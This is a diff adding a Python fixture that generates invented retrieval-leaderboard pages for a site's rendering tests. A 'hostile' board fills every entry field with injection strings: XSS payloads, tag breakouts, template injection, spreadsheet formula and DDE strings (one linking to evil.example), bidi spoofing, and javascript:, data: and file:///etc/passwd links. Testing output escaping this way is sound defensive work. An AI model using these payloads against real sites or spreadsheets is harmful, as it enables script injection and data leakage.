@@ -1,0 +1,342 @@
+"""Boards of our own invention for the tests of the page, and a script that renders them.
+
+`python tests/site/sample_boards.py OUT` writes each board as OUT/NAME/leaderboard/.
+"""
+
+import hashlib
+import sys
+from collections.abc import Mapping, Sequence
+from dataclasses import replace
+from datetime import UTC, date, datetime, timedelta
+from decimal import Decimal
+from pathlib import Path
+from typing import Any
+
+from heldout.board.spec import BoardSpec, Policy, QuerySet, Runs, View
+from heldout.board.standings import Row, Standings
+from heldout.ids import Digest
+from heldout.site.facts import BoardFacts, Example, SetFacts
+from heldout.site.render import render_board
+
+AS_OF = datetime(2026, 11, 20, 17, 10, tzinfo=UTC)
+OPENS = datetime(2025, 9, 1, 9, tzinfo=UTC)
+
+HOSTILE: Mapping[str, str] = {
+    "script": "<script>document.title='owned'</script>",
+    "image": '"><img src=x onerror="document.title=\'owned\'">',
+    "attribute": "' onmouseover='document.title=1' x='",
+    "entity": "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "closing": "</title></td></table></script></svg><h1>owned",
+    "template": "{{ 7 * 7 }}{% for x in y %}",
+    "formula": '=HYPERLINK("https://evil.example/?"&A1,"click")',
+    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "tab": "\t=1+1",
+    "bidi": "safe\u202e gnp.exe \u2066evil\u2069",
+    "rtl": "مسترجع عربي 2.0",
+    "long": "W" * 400,
+    "controls": "a\x00b\x1bc\ud800d\ufffee\r\nf",
+    "comment": "--><!-- x",
+    "css": "</style><style>*{display:none}</style>",
+    "svg": "<svg onload=alert(1)>",
+}
+HOSTILE_LINKS = (
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "https://good.example@evil.example/",
+    'https://evil.example/"onmouseover="alert(1)',
+    "//evil.example/",
+    "https://evil.example/ <script>",
+    "vbscript:x",
+    "",
+    "file:///etc/passwd",
+    "http://[::1",
+    "java\nscript:alert(1)",
+)
+
+_TEAMS = (
+    ("Lighthouse Institute", "IR Lab"),
+    ("North Coast University", "Search Group"),
+    ("Harbour Research", ""),
+    ("Quillon", "Applied Language"),
+    ("Ostwald Polytechnic", "Text and Data"),
+    ("Ravenna Search", ""),
+    ("Team Baobab", "University of the Eastern Highlands"),
+    ("Kestrel AI", "Retrieval"),
+    ("Fjordwise", ""),
+    ("Universidad de San Telmo", "Grupo de Recuperación"),
+)
+_SYSTEMS = (
+    "BM25 tuned, k1 0.82, b 0.68",
+    "doc-expansion T5, BM25",
+    "Siamese MiniLM, exact search",
+    "Siamese MiniLM + hard negatives",
+    "SparseTerm v1",
+    "SparseTerm v1 + RM3",
+    "LateTok (128 dim)",
+    "BM25 top 100 > cross-encoder base",
+    "BM25 top 100 > cross-encoder large",
+    "Dense-XL distilled",
+    "SparseTerm v2",
+    "Dense-XL + SparseTerm (fused)",
+    "LateTok + cross-encoder large (ensemble of 3)",
+    "Pico",
+    "Lantern: single-stage long-query encoder",
+    "monoT5 over BM25 top 100",
+    "Lantern v2",
+    "Kestrel-1",
+    "duoT5 over Lantern v2 top 50",
+    "ListMerge-7B (reranker) over hybrid first stage",
+    "Baobab",
+    "Kestrel-1.5 multi-vector",
+)
+_GAINS = (
+    0,
+    31,
+    44,
+    62,
+    55,
+    61,
+    79,
+    74,
+    88,
+    83,
+    92,
+    101,
+    109,
+    64,
+    104,
+    112,
+    118,
+    115,
+    126,
+    133,
+    128,
+    131,
+)
+
+
+def spec(**changes: Any) -> BoardSpec:
+    """A board with a dev and an eval set."""
+    fields: dict[str, Any] = {
+        "name": "stdlib-docs",
+        "title": "Stdlib Docs",
+        "task": "Given the first paragraph of a docstring, find the rest of it.",
+        "opens": OPENS.date(),
+        "closes": date(2027, 3, 31),
+        "primary": "eval",
+        "recipients": ("age1q8f", "age1zk2"),
+        "contact": "leaderboard@example.org",
+        "runs": Runs(order="msmarco", depth=100, min_depth=1),
+        "sets": {
+            "dev": QuerySet(queries="queries/dev.tsv", qrels="qrels/dev.qrels"),
+            "eval": QuerySet(queries="queries/eval.tsv", candidates="candidates/eval.tsv.gz"),
+        },
+        "views": (
+            View(name="dev", set="dev", measure="RR@10"),
+            View(name="eval", set="eval", measure="RR@10"),
+        ),
+        "policy": Policy(),
+    }
+    return BoardSpec(**(fields | changes))
+
+
+def facts(**changes: Any) -> BoardFacts:
+    """The sizes and addresses of that board."""
+    return replace(
+        BoardFacts(
+            sets={
+                "dev": SetFacts(queries=1_061, judged=1_050),
+                "eval": SetFacts(queries=1_060, judged=1_050),
+            },
+            events=189,
+            head=_digest("head"),
+            example=Example(
+                query="Return a new list containing all items from the iterable in "
+                "ascending order.",
+                document="builtins.sorted",
+                text="A custom key function can be supplied to customize the sort order, and the "
+                "reverse flag can be set to request the result in descending order.",
+            ),
+            repository="https://git.example.org/stdlib-docs/board",
+            home="https://stdlib-docs.example.org/leaderboard",
+        ),
+        **changes,
+    )
+
+
+def row(score: str, dev: str = "", /, *, days: int = 0, **changes: Any) -> Row:
+    """One entry; everything that is not given is plausible."""
+    received = OPENS + timedelta(days=days, hours=days % 9)
+    published = received + timedelta(days=2)
+    name = changes.get("id") or f"{received:%Y%m%d}-entry-{days:03}"
+    fields: dict[str, Any] = {
+        "rank": None,
+        "id": name,
+        "received": received,
+        "published": published,
+        "team": "Lighthouse Institute",
+        "institution": "IR Lab",
+        "description": "monoT5 over BM25 top 100",
+        "paper": "",
+        "code": "",
+        "training_data": "MS MARCO passages, train split",
+        "type": "full ranking",
+        "scores": {"eval": score} | ({"dev": dev} if dev else {}),
+        "counts": {"eval": 1_050} | ({"dev": 1_050} if dev else {}),
+        "trophy": False,
+        "embargoed": False,
+        "reveal_due": False,
+        "embargo_until": None,
+        "baseline": False,
+        "events": (
+            (received, "received", _digest(name + "received")),
+            (published, "published", _digest(name + "published")),
+        ),
+        "files": {
+            f"submissions/{name}.tar.age": _digest(name + "tar"),
+            f"submissions/{name}.key.age": _digest(name + "key"),
+        },
+    }
+    return Row(**(fields | changes))
+
+
+def baseline(score: str = "0.273", dev: str = "0.280", **changes: Any) -> Row:
+    """The organisers' baseline."""
+    fields: dict[str, Any] = {
+        "id": "bm25",
+        "baseline": True,
+        "description": "BM25, k1 0.9, b 0.4",
+        "team": "The organisers",
+        "institution": "",
+        "training_data": "",
+        "files": {},
+        "events": ((OPENS, "baseline", _digest("bm25")),),
+    }
+    return row(score, dev, **(fields | changes))
+
+
+def standings(rows: Sequence[Row], **changes: Any) -> Standings:
+    """Rows in the official order, with their ranks and trophies."""
+    best = Decimal(-1)
+    trophies = set()
+    for one in sorted(rows, key=lambda r: (r.received, r.id)):
+        score = Decimal(one.scores["eval"])
+        if score > best:
+            best = score
+            trophies |= set() if one.baseline else {one.id}
+    ordered = sorted(rows, key=lambda r: (-Decimal(r.scores["eval"]), r.received, r.id))
+    ranked, rank = [], 0
+    for one in ordered:
+        rank += not one.baseline
+        place = None if one.baseline else rank
+        ranked.append(replace(one, rank=place, trophy=one.id in trophies))
+    fields: dict[str, Any] = {
+        "board": "stdlib-docs",
+        "as_of": AS_OF,
+        "primary": "eval",
+        "rows": tuple(ranked),
+        "waiting": 1,
+        "decision_days": 2.0,
+    }
+    return Standings(**(fields | changes))
+
+
+def busy(entries: int = 44) -> Standings:
+    """A board after a busy year: the systems above, their variants, embargoes, an erratum."""
+    rows = [baseline(), baseline("0.238", "0.246", id="tf-idf", description="TF-IDF, cosine")]
+    return standings(rows + [_entry(n, entries) for n in range(entries)])
+
+
+def hostile() -> Standings:
+    """Every field of an entry filled with each attack in turn."""
+    fields = ("team", "institution", "description", "training_data", "type")
+    rows = [baseline(), row("0.401", "0.399", days=3)]
+    for n, (name, text) in enumerate(HOSTILE.items()):
+        link = HOSTILE_LINKS[n % len(HOSTILE_LINKS)]
+        rows.append(
+            row(
+                f"0.{300 + n}",
+                "0.333",
+                days=10 + n,
+                id=f"20251001-{name}",
+                **dict.fromkeys(fields, text),
+                paper=link,
+                code=text,
+                findings=(text,),
+                errata=((AS_OF, text),),
+                files={text: text},
+            )
+        )
+    return standings(rows)
+
+
+def empty() -> Standings:
+    """A board with a baseline and nobody else."""
+    return standings([baseline()], as_of=OPENS, waiting=0, decision_days=None)
+
+
+def write_boards(out: Path) -> None:
+    """Render every board into a folder of its own."""
+    for name, board in BOARDS.items():
+        for path, data in render_board(board, spec(), facts()).items():
+            target = out / name / path
+            target.parent.mkdir(parents=True, exist_ok=True)
+            target.write_bytes(data)
+
+
+def _entry(n: int, entries: int) -> Row:
+    days = 4 + n * 430 // entries
+    system = n * len(_SYSTEMS) // entries
+    wobble = (n * 37 % 23) - 14
+    score = 278 + _GAINS[system] + min(wobble, 4 if n % 5 == 0 else 0)
+    dev = score + 8 + n * 13 % 9
+    team, institution = _TEAMS[(n * 7 + system) % len(_TEAMS)]
+    variant = "" if n * len(_SYSTEMS) % entries < len(_SYSTEMS) else f", seed {n % 7 + 2}"
+    until = {entries - 3: date(2027, 5, 20), entries - 12: date(2026, 11, 18)}.get(n)
+    found = {"findings": ("near-variant",)} if variant else {}
+    hidden: dict[str, Any] = {"team": "Anonymous", "institution": "", "description": ""}
+    return row(
+        f"0.{score}",
+        "" if n == 9 else f"0.{dev}",
+        days=days,
+        id=f"{OPENS + timedelta(days=days):%Y%m%d}-{team.split()[0].lower()}-{n:02}",
+        type="reranking"
+        if "over" in _SYSTEMS[system] or ">" in _SYSTEMS[system]
+        else "full ranking",
+        paper="https://papers.example.org/2605.01234" if n % 3 == 0 and not until else "",
+        code=f"https://git.example.org/{n}" if n % 4 == 1 and not until else "",
+        errata=((AS_OF, "The run was scored again after 3 judgments were mended."),)
+        if n == 20
+        else (),
+        embargoed=until is not None,
+        embargo_until=until,
+        reveal_due=until is not None and until <= AS_OF.date(),
+        **found,
+        **(
+            hidden
+            if until
+            else {
+                "team": team,
+                "institution": institution,
+                "description": _SYSTEMS[system] + variant,
+            }
+        ),
+    )
+
+
+def _digest(text: str) -> Digest:
+    return Digest(hashlib.sha256(text.encode()).hexdigest())
+
+
+BOARDS: Mapping[str, Standings] = {
+    "busy": busy(),
+    "hostile": hostile(),
+    "empty": empty(),
+    "one": standings([baseline(), row("0.341", "0.352", days=20)]),
+    "many": busy(200),
+}
+
+
+if __name__ == "__main__":
+    write_boards(Path(sys.argv[1]))
